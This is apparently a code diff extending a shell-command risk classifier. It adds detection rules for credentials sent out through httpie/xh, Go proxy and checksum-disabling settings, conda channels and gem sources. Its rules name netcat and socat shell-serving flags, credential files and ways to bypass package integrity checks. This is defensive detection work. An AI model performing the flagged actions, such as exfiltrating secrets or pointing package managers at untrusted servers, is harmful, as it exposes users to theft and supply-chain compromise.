@@ -112,6 +112,8 @@ export function historyOff(name: string, value: Word | undefined, unset: boolean
 }
 
 const NETCAT = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
+/** httpie's programs and xh, which reads its arguments as httpie does. */
+const HTTPIE_CLIENTS = ["http", "https", "xh", "xhs"];
 /**
  * Keys and credentials leaving the machine: files in ~/.ssh, ~/.aws and the like, /etc/shadow, or
  * the whole environment (a dump of it, `/proc/self/environ`), which holds API keys and tokens.
@@ -135,6 +137,14 @@ const YARN_REGISTRY_KEY = "^(npmScopes\\..+\\.)?npmRegistryServer$";
 const PIP_INDEX_KEY = "^[a-z]+\\.(index-url|extra-index-url|find-links)$";
 /** npm's `--location=project` (`--location project`, `-L project`). */
 const PROJECT_LOCATION = "^(--location=project|project)$";
+/** Go's module proxy set to another server than its default (`proxy.golang.org`), `direct` or `off`. */
+const GO_PROXY_SET = "^GOPROXY=(?!(https://proxy\\.golang\\.org(,direct)?|direct|off)$)";
+/** Go settings that drop the checks on downloaded modules: no checksum database (or another one), none for some modules, plain HTTP, `-insecure`. */
+const GO_UNCHECKED_SET = "^(GOSUMDB=(?!sum\\.golang\\.org$)|GONOSUMDB=.|GONOSUMCHECK=.|GOINSECURE=.|GOFLAGS=(.*\\s)?-insecure(\\s|=|$))";
+/** conda's channel lists, added to (`--add`/`--prepend`/`--append channels`). */
+const CONDA_ADD_CHANNEL = ["--add", "--prepend", "--append"];
+/** conda's own channels by URL; a channel by name (`conda-forge`) stays on anaconda.org. */
+const CONDA_DEFAULT_CHANNEL = "^https://(repo\\.anaconda\\.com/pkgs/(main|r|msys2)|conda\\.anaconda\\.org/(conda-forge|bioconda))/?$";
 /** The registries' own defaults. */
 const DEFAULT_REGISTRY = "^((@[^:\\s]+:)?registry=)?(https://registry\\.(npmjs\\.org|yarnpkg\\.com)|https://pypi\\.(org|python\\.org)/simple)/?$";
 const DESTROY_ROOT: Partial<Record<PathClass, Risk>> = { root: "critical", system: "critical", device: "critical" };
@@ -312,8 +322,12 @@ export const RULES: readonly Rule[] = [
   { id: "pipe-credentials", commands: [...NETCAT, "socat", "telnet", "openssl", "websocat", "cryptcat", "ssh"], targets: { fed: "stdin", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
   // curl sends its standard input only where told to: `-d @-`, `-F f=@-`, `-T -`.
   { id: "pipe-credentials-curl", commands: ["curl"], argPattern: "@(-|/dev/stdin)$|^(-|/dev/stdin)$", targets: { fed: "stdin", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
+  // httpie and xh send their standard input as the body unless `--ignore-stdin` (`-I`), and a file
+  // named in an item: `@FILE` (the body), `field@FILE` (a form's file), `field=@FILE`, `field:=@FILE`.
+  { id: "pipe-credentials-httpie", commands: HTTPIE_CLIENTS, noFlags: ["-I", "--ignore-stdin", "--offline"], targets: { fed: "stdin", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
+  { id: "upload-credentials-httpie", commands: HTTPIE_CLIENTS, noFlags: ["--offline"], targets: { pattern: "^(?:[^=:@/]*(?:=|:=)?)?@(.+)$", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends {target} over the network" },
   // `curl "https://x?k=$(cat F)"`, `dig $(base64 F).example.com`: the contents go out in the request.
-  { id: "argument-credentials", commands: [...NETCAT, "curl", "wget", "http", "https", "xh", "aria2c", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "dig", "nslookup", "host", "ping"], targets: { fed: "arguments", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
+  { id: "argument-credentials", commands: [...NETCAT, "curl", "wget", ...HTTPIE_CLIENTS, "aria2c", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "dig", "nslookup", "host", "ping"], targets: { fed: "arguments", except: PUBLIC_KEY, risk: CREDENTIALS }, category: "network exposure", detail: "sends the contents of {target} over the network" },
   { id: "netcat-exec", commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"], flags: ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"], risk: "critical", category: "network exposure", detail: "serves a shell over the network" },
   { id: "netcat-listen", commands: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"], flags: ["-l", "--listen"], risk: "moderate", category: "network exposure", detail: "listens for network connections" },
   { id: "socat-exec", commands: ["socat"], argPrefixes: ["exec:", "EXEC:", "system:", "SYSTEM:"], risk: "critical", category: "network exposure", detail: "connects a program to a socket" },
@@ -349,13 +363,22 @@ export const RULES: readonly Rule[] = [
   // writes the user's ~/.npmrc unless `--location=project` (`-L project`), pnpm and yarn 1 their
   // user config, pip the user's pip.conf (`--global`: the system's) unless `--site` (the virtual
   // environment's), yarn 2+ the project's .yarnrc.yml unless `-H` (`--home`). The registries' own
-  // defaults change nothing. git's `url.BASE.insteadOf` is read in git-config.ts.
+  // defaults change nothing. `go env -w` writes the user's go/env file: a GOPROXY, or settings that
+  // drop the checksum checks (GOSUMDB=off, GONOSUMDB, GOINSECURE, GOFLAGS=-insecure), hold for
+  // every module download. conda writes the user's ~/.condarc (`--system`: the system's) unless
+  // `--env`, the active environment's; a channel given by URL is another server (by name, anaconda.org).
+  // `gem sources --add` writes ~/.gemrc. git's `url.BASE.insteadOf` is read in git-config.ts.
   { id: "registry-user", commands: ["npm", "pnpm", "yarn"], subcommand: ["config", "c", "set"], args: ["set"], argPattern: NPM_REGISTRY_KEY, noArgPattern: `${PROJECT_LOCATION}|${DEFAULT_REGISTRY}`, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "registry-project", commands: ["npm", "pnpm"], subcommand: ["config", "c", "set"], argSets: [["set"], ["--location=project", "project"]], argPattern: NPM_REGISTRY_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this project" },
   { id: "yarn-registry-home", commands: ["yarn"], subcommand: ["config"], argSets: [["set"], ["-H", "--home"]], argPattern: YARN_REGISTRY_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "yarn-registry-project", commands: ["yarn"], subcommand: ["config"], args: ["set"], argPattern: YARN_REGISTRY_KEY, noArgPattern: `^(-H|--home)$|${DEFAULT_REGISTRY}`, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this project" },
   { id: "pip-index-user", commands: ["pip", "pip3"], subcommand: ["config"], args: ["set"], argPattern: PIP_INDEX_KEY, noFlags: ["--site"], noArgPattern: DEFAULT_REGISTRY, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "pip-index-user-module", commands: ["python", "python3"], argSets: [["-m"], ["pip"], ["config"], ["set"]], argPattern: PIP_INDEX_KEY, noFlags: ["--site"], noArgPattern: DEFAULT_REGISTRY, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  { id: "go-proxy-user", commands: ["go"], subcommand: ["env"], flags: ["-w"], argPattern: GO_PROXY_SET, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  { id: "go-unchecked-user", commands: ["go"], subcommand: ["env"], flags: ["-w"], argPattern: GO_UNCHECKED_SET, risk: "high", category: "system configuration", detail: "no longer checks the packages downloaded for every project against their published checksums" },
+  { id: "conda-channel-user", commands: ["conda"], subcommand: ["config"], flags: CONDA_ADD_CHANNEL, args: ["channels"], argPattern: "://", noFlags: ["--env"], noArgPattern: CONDA_DEFAULT_CHANNEL, risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
+  { id: "conda-channel-env", commands: ["conda"], subcommand: ["config"], allFlags: ["--env"], flags: CONDA_ADD_CHANNEL, args: ["channels"], argPattern: "://", noArgPattern: CONDA_DEFAULT_CHANNEL, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this environment" },
+  { id: "gem-source-user", commands: ["gem"], subcommand: ["sources"], flags: ["--add", "-a"], noArgPattern: "^(--add=)?https://rubygems\\.org/?$", risk: "high", category: "system configuration", detail: "changes where packages are downloaded from for every project" },
   { id: "pip-index-site", commands: ["pip", "pip3", "python", "python3"], argSets: [["config"], ["set"], ["--site"]], argPattern: PIP_INDEX_KEY, noArgPattern: DEFAULT_REGISTRY, risk: "moderate", category: "system configuration", detail: "changes where packages are downloaded from for this environment" },
   { id: "user-accounts", commands: ["useradd", "userdel", "groupadd", "groupdel", "deluser", "chpasswd"], risk: "high", category: "system configuration", detail: "changes user accounts" },
   { id: "defaults-write", commands: ["defaults", "gsettings", "dconf", "reg", "regedit", "scutil", "hostnamectl", "timedatectl", "update-alternatives"], args: ["write", "delete", "set", "reset", "add", "import", "--set", "--install", "--remove"], risk: "moderate", category: "system configuration", detail: "changes system settings" },
